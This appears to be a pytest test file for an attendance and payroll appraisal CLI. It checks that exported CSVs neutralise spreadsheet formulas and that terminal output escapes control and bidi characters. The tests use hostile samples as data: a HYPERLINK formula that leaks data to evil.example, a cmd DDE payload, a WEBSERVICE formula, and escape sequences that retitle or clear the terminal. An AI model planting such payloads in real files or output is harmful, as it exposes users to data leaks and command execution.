"""Text that leaves the program is safe (issue 9, item 10).

Every CSV the program writes neutralises a cell a spreadsheet would run as a formula
(OWASP "CSV Injection": a leading ``= + - @``, tab or CR gets a ``'`` in front), and the
events file `appraisal import` writes still reads back through `appraisal run` as the
very events imported. Names, ids and notes reach the terminal with their control and
bidi characters escaped (`appraisal.domain.text.terminal_safe`): in `run`'s summary,
`explain`'s statement and the review lines. Expected texts are written out by hand.
"""

from __future__ import annotations

import csv
import json
import shutil
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from appraisal.cli import main
from appraisal.domain.text import csv_cell, from_csv_cell, terminal_safe
from appraisal.read.imports import Imported, ReviewItem
from appraisal.read.imports.records import EVENTS_HEADER
from appraisal.read.imports.write import events_csv, review_csv, write_events_csv
from appraisal.read.tables import Table, read_table

FIXTURES = Path(__file__).parent / "fixtures" / "attendance"
DAILY = FIXTURES / "dingtalk_daily_2026-10.xlsx"
ROSTER = FIXTURES / "roster_2026-10.csv"
EXPECTED_EVENTS = FIXTURES / "expected_events_2026-10.csv"

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","点我")'
CALC = "+cmd|' /C calc'!A0"
SUM = "-1+1"  # a formula, not a plain number
TITLE = "@KF005\x1b]0;pwned\x07"  # OSC: retitles the terminal window, ended by BEL
# The fixture's ids, and the hostile ids that replace them in the export and the roster.
HOSTILE = {"KF001": HYPERLINK, "KF002": CALC, "KF003": SUM, "KF005": TITLE}
CLEAR = "王芳\x1b[2J\x07"  # KF001's name: ESC [2J clears the screen, BEL rings


# --- the rules, one function each -------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("王芳 KF001", "王芳 KF001"),  # ordinary text, Chinese included, as it is
        ("", ""),
        (CLEAR, "王芳\\x1b[2J\\x07"),
        ("a\tb\nc\rd", "a\\tb\\nc\\rd"),
        ("\x00\x7f", "\\x00\\x7f"),  # NUL and DEL
        ("\x9b2J", "\\x9b2J"),  # C1 CSI, the one-byte ESC [
        ("abc\u202edcba", "abc\\u202edcba"),  # RIGHT-TO-LEFT OVERRIDE
        ("\u2066x\u2069", "\\u2066x\\u2069"),  # LEFT-TO-RIGHT ISOLATE … POP
        ("\u202a\u202b\u202c\u202d", "\\u202a\\u202b\\u202c\\u202d"),
        ("one\u2028two", "one\\u2028two"),  # LINE SEPARATOR
        ("é ü ✓ ０１", "é ü ✓ ０１"),  # not controls: as they are
        ("C:\\data\\x1b.csv", "C:\\data\\x1b.csv"),  # a backslash is text, not an escape
    ],
)
def test_terminal_safe_escapes_controls_and_bidi_and_keeps_other_text(
    text: str, shown: str
) -> None:
    assert terminal_safe(text) == shown


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (CALC, "'" + CALC),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        (SUM, "'-1+1"),
        ("\tKF001", "'\tKF001"),
        ("\rKF001", "'\rKF001"),
        ("-", "'-"),
        ("'=X", "''=X"),  # quotes already there: one more, so reading back is exact
        # Plain numbers, which a spreadsheet reads as the number: left alone.
        ("-5", "-5"),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-1e3", "-1e3"),
        # Nothing to neutralise.
        ("KF001", "KF001"),
        ("王芳", "王芳"),
        ("'quoted'", "'quoted'"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_cell_quotes_what_a_spreadsheet_would_run(text: str, written: str) -> None:
    assert csv_cell(text) == written
    assert from_csv_cell(written) == text


@pytest.mark.parametrize("cell", ["'5", "''", "'abc", "x'=y", " '=X"])
def test_reading_takes_off_only_the_quote_csv_cell_adds(cell: str) -> None:
    assert from_csv_cell(cell) == cell


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r0123456789.eE aé王\x1b"), max_size=8))
def test_every_cell_reads_back_as_written_and_none_starts_a_formula(text: str) -> None:
    written = csv_cell(text)
    assert from_csv_cell(written) == text
    if written[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert Decimal(written).is_finite()  # left alone only as a plain number


# --- the files `appraisal import` writes --------------------------------------------------


def imported(rows: list[tuple[str, ...]], review: tuple[ReviewItem, ...] = ()) -> Imported:
    table = Table("export.xlsx", "export.xlsx", EVENTS_HEADER, tuple(enumerate(rows, start=5)))
    return Imported("dingtalk_daily", table, review, ())


def test_events_file_neutralises_formulas_and_reads_back_as_imported(tmp_path: Path) -> None:
    rows = [
        (HYPERLINK, "2026-10-09", "late", "12", "", "钉钉每日统计 每日统计!R13 迟到时长(分钟)=12"),
        (CALC, "2026-10-14", "late", "-5", "", "@note"),
        ("KF003", "2026-10-15", "personal_leave", "-0.5", "", "=1+1"),
        ("'=X", "2026-10-16", "absent", "1", "", "\tkept"),
    ]
    path = tmp_path / "events.csv"
    write_events_csv(imported(rows), path)
    assert path.read_text(encoding="utf-8").splitlines() == [
        "employee_id,date,kind,value,clause,amount,points,flags,note",
        '"\'=HYPERLINK(""http://evil.example/?leak"",""点我"")",2026-10-09,late,12,,,,,'
        "钉钉每日统计 每日统计!R13 迟到时长(分钟)=12",
        "'+cmd|' /C calc'!A0,2026-10-14,late,-5,,,,,'@note",
        "KF003,2026-10-15,personal_leave,-0.5,,,,,'=1+1",
        "''=X,2026-10-16,absent,1,,,,,'\tkept",
    ]
    # Read back by the reader `appraisal run` uses: the cells are the imported ones.
    table, issues = read_table(path)
    assert issues == [] and table is not None
    columns = [table.header.index(c) for c in EVENTS_HEADER]
    assert [tuple(cells[i] for i in columns) for _, cells in table.rows] == rows


def test_review_file_neutralises_formulas_and_escapes_controls() -> None:
    review = (
        ReviewItem(
            TITLE, date(2026, 10, 16), "上班缺卡\x1b[31m", "/x/export.xlsx", "每日统计!X144"
        ),
        ReviewItem(HYPERLINK, date(2026, 10, 17), "=WEBSERVICE(1)", "-d.xlsx", "\x07S!A1"),
    )
    lines = review_csv(imported([], review)).decode("utf-8").splitlines()
    assert lines == [
        "employee_id,date,what,file,cell",
        "'@KF005\\x1b]0;pwned\\x07,2026-10-16,上班缺卡\\x1b[31m,/x/export.xlsx,每日统计!X144",
        '"\'=HYPERLINK(""http://evil.example/?leak"",""点我"")",2026-10-17,'
        "'=WEBSERVICE(1),'-d.xlsx,\\x07S!A1",
    ]
    assert not any(c in "".join(lines) for c in "\x1b\x07")


def test_ordinary_events_are_written_as_before() -> None:
    rows = [("KF001", "2026-10-09", "late", "12", "", "note")]
    assert events_csv(imported(rows)) == (
        b"employee_id,date,kind,value,clause,amount,points,flags,note\n"
        b"KF001,2026-10-09,late,12,,,,,note\n"
    )


def test_a_review_line_shows_controls_escaped() -> None:
    item = ReviewItem(TITLE, date(2026, 10, 16), "上班缺卡", "e.xlsx", "每日统计!X144")
    assert str(item) == (
        "e.xlsx:每日统计!X144: @KF005\\x1b]0;pwned\\x07 2026-10-16 上班缺卡"
        " — to review, no penalty applied"
    )


# --- through the command line: import → run, explain ---------------------------------------


def cli(capsys: pytest.CaptureFixture[str], *args: object) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The daily export, saved as CSV (which, unlike xlsx, can hold an ESC), and the
    roster, with KF001, 2, 3 and 5 given hostile ids and KF001 a name that clears the
    screen."""
    folder = tmp_path_factory.mktemp("hostile")
    workbook = openpyxl.load_workbook(DAILY, read_only=True)
    with (folder / "export.csv").open("w", encoding="utf-8", newline="") as export:
        writer = csv.writer(export)
        for values in workbook.worksheets[0].iter_rows(values_only=True):
            cells = ["" if v is None else str(v) for v in values]
            cells[3] = HOSTILE.get(cells[3], cells[3])  # column D: 工号
            writer.writerow(cells)
    workbook.close()
    with (
        ROSTER.open(encoding="utf-8") as given,
        (folder / "roster.csv").open("w", encoding="utf-8", newline="") as written,
    ):
        writer = csv.writer(written)
        for cells in csv.reader(given):
            if cells[0] == "KF001":
                cells[1] = CLEAR
            cells[0] = HOSTILE.get(cells[0], cells[0])
            writer.writerow(cells)
    shutil.copy(EXPECTED_EVENTS, folder / "expected.csv")
    return folder


def results(folder: Path, name: str) -> dict[str, dict[str, Any]]:
    document = json.loads((folder / f"{name}.json").read_text(encoding="utf-8"))
    people: dict[str, dict[str, Any]] = {}
    for person in document["employees"]:
        trace = [
            {k: v for k, v in t.items() if k not in ("event", "file", "row")}
            for t in person["trace"]
        ]
        people[person["employee_id"]] = {**person, "trace": trace}
    return people


def test_hostile_ids_are_imported_inert_and_run_as_the_same_month(
    capsys: pytest.CaptureFixture[str], hostile: Path
) -> None:
    events = hostile / "events.csv"
    code, out, err = cli(
        capsys,
        "import",
        hostile / "export.csv",
        "--month",
        "2026-10",
        "--roster",
        hostile / "roster.csv",
        "-o",
        events,
    )
    assert code == 0, err
    lines = events.read_text(encoding="utf-8").splitlines()
    firsts = {next(csv.reader([line]))[0] for line in lines[1:]}
    assert firsts == {"'" + HYPERLINK, "'" + CALC, "'" + SUM, "KF004", "'" + TITLE}
    review = (hostile / "events.review.csv").read_text(encoding="utf-8").splitlines()
    assert review[1].startswith("'@KF005\\x1b]0;pwned\\x07,2026-10-16,上班缺卡,")
    assert "\x1b" not in out and "\x07" not in out
    assert f"  {hostile / 'export.csv'}:export!X144: @KF005\\x1b]0;pwned\\x07 2026-10-16" in out

    code, out, err = cli(
        capsys,
        "run",
        "--month",
        "2026-10",
        "--roster",
        hostile / "roster.csv",
        "--events",
        events,
        "--ledger",
        hostile / "l.db",
        "--json",
        hostile / "imported.json",
        "--allow-unappraised",  # an attendance export appraises nobody
    )
    assert code == 0, err
    assert "\x1b" not in out and "\x07" not in out
    # All six demote (no criterion row: add side 0, total under 140); the summary names them.
    assert f"{HYPERLINK} 王芳\\x1b[2J\\x07 (specialist→" in out
    people = results(hostile, "imported")
    assert set(people) == {HYPERLINK, CALC, SUM, "KF004", TITLE, "KF006"}
    # KF001 as =HYPERLINK(…): late 12 min (fine 10, −3) and 45 min (fine 30, −5):
    # gross = 1000 + 900 − 40 + 50 allowances = 1910.00; score 0 + (100 − 8) = 92.
    first = people[HYPERLINK]
    assert first["name"] == CLEAR
    assert first["pay"]["fines"] == "40.00" and first["pay"]["gross"] == "1910.00"
    assert first["score"]["total"] == 92
    # KF002 as +cmd…: late 75 min is a day's absence, 1900 / 21.75 = 87.356… → 87.36,
    # −10; early leave 20 min as lateness ≤ 30 min, fine 10, −3:
    # gross = 1000 + 900 − 10 − 87.36 + 50 = 1852.64; score 0 + (100 − 13) = 87.
    second = people[CALC]
    assert (second["pay"]["absence_deduction"], second["pay"]["gross"]) == ("87.36", "1852.64")
    assert second["score"]["total"] == 87

    # The same month from the fixture's ordinary ids: the same results, id for id.
    code, _, err = cli(
        capsys,
        "run",
        "--month",
        "2026-10",
        "--roster",
        ROSTER,
        "--events",
        hostile / "expected.csv",
        "--ledger",
        hostile / "plain.db",
        "--json",
        hostile / "plain.json",
        "--allow-unappraised",
    )
    assert code == 0, err
    plain = results(hostile, "plain")
    for employee_id, person in plain.items():
        mine = people[HOSTILE.get(employee_id, employee_id)]
        assert {**mine, "employee_id": employee_id, "name": person["name"]} == person


def test_explain_shows_a_name_that_clears_the_screen_escaped(
    capsys: pytest.CaptureFixture[str], hostile: Path
) -> None:
    ledger = hostile / "explain.db"
    code, out, err = cli(
        capsys,
        "run",
        "--month",
        "2026-10",
        "--roster",
        hostile / "roster.csv",
        "--events",
        hostile / "export.csv",
        "--ledger",
        ledger,
        "--allow-unappraised",  # an attendance export appraises nobody
    )
    assert code == 0, err
    # `run` on the export itself prints its review line, escaped.
    assert "\x1b" not in out and "\x07" not in out
    assert ": @KF005\\x1b]0;pwned\\x07 2026-10-16 上班缺卡 — to review" in out
    code, out, err = cli(
        capsys, "explain", HYPERLINK, "--month", "2026-10", "--ledger", ledger, "--lang", "zh"
    )
    assert code == 0, err
    assert "\x1b" not in out and "\x07" not in out
    assert f"工号 {HYPERLINK}   姓名 王芳\\x1b[2J\\x07   部门" in out.splitlines()[1]
